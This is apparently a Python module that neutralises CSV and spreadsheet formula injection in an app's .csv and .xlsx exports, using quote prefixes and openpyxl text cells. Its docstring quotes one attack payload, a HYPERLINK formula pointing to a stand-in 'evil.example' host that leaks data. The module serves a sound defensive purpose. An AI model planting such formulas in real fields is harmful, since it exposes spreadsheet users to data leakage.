"""Cells for Excel that Excel shows and never runs (OWASP "CSV injection").

A text cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by a
spreadsheet as a formula (``=HYPERLINK("http://evil.example/?leak","click me")`` typed as a user
name lands in the admin's audit CSV). Every .csv and .xlsx the app writes passes its text
through this module; numbers are never touched (the number -5 stays the number -5).

* CSV: ``csv_value`` prefixes such a text with a single quote ``'``, which a spreadsheet shows
  and does not evaluate.
* .xlsx: openpyxl turns a str that starts with ``=`` into a formula cell; ``xlsx_text`` makes
  such a cell a string cell (``t="inlineStr"``) with the quotePrefix style, so Excel shows it as
  typed and keeps it text even when someone edits the cell. ``xlsx_workbook`` does that to every
  cell of a finished workbook (not for write-only workbooks: those pass each cell through
  ``xlsx_text``).
"""

from __future__ import annotations

from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    """True for a text a spreadsheet would read as a formula; False for numbers and anything else."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_value(value: Any) -> Any:
    """A value for a CSV cell: a formula-like text with a leading ``'``, anything else as it is."""
    return "'" + value if formula_like(value) else value


def xlsx_text(cell):
    """An openpyxl cell (also a WriteOnlyCell) whose value is formula-like made a text cell with
    the quotePrefix style; any other cell is left as it is. Returns the cell."""
    if formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def xlsx_workbook(wb):
    """Every cell of every sheet of a (not write-only) openpyxl workbook through ``xlsx_text``;
    call it just before saving. Returns the workbook."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                xlsx_text(cell)
    return wb
